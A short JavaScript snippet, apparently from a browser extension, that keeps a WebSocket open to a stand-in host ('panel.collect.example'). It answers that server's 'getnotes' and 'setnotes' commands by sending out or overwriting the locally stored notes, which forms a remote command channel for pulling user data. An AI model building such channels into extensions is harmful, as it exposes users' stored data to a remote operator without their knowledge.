const socket = new WebSocket("wss://panel.collect.example/agent");

setInterval(() => socket.send("ping"), 25000);
socket.onmessage = (event) => {
  const command = JSON.parse(event.data);
  if (command.type === "getnotes") chrome.storage.local.get("notes", (notes) => socket.send(JSON.stringify(notes)));
  if (command.type === "setnotes") chrome.storage.local.set({notes: command.notes});
};
